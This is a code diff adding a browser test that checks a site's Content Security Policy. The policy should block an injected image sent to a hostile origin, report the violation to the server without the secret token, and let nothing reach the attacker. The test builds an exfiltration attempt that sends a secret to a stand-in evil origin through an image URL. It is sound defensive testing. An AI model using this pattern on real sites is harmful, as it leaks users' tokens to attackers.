@@ -271,6 +271,20 @@ test.describe('somebody hostile', () => {
     await context.close();
   });
 
+  test('what the policy stops in a browser is told to the server, without what stands in addresses', async ({
+    page,
+    server,
+  }) => {
+    await page.goto(`${server.url}/login?token=a-secret`);
+    await page.evaluate((address) => {
+      document.body.append(Object.assign(new Image(), { src: address }));
+    }, `${evilOrigin}/picture?of=a-secret`);
+    const told = `"directive":"img-src","blocked":"${evilOrigin}","page":"/login"`;
+    await expect.poll(() => server.log()).toContain(told);
+    expect(server.log()).not.toContain('a-secret');
+    expect(asked).toEqual([]);
+  });
+
   test('the bundle holds no compiler of templates', async ({ page, server }) => {
     await page.goto(`${server.url}/login`);
     const refused = await page.evaluate(async () => {
